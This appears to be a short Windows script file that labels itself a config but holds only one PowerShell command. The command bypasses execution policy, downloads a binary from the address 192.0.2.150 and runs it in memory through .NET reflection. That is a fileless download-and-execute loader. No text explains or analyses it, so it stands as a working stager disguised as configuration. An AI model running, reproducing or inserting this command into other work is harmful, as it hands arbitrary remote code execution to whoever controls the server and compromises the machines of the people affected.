REM config 2262 v0
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://192.0.2.150/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
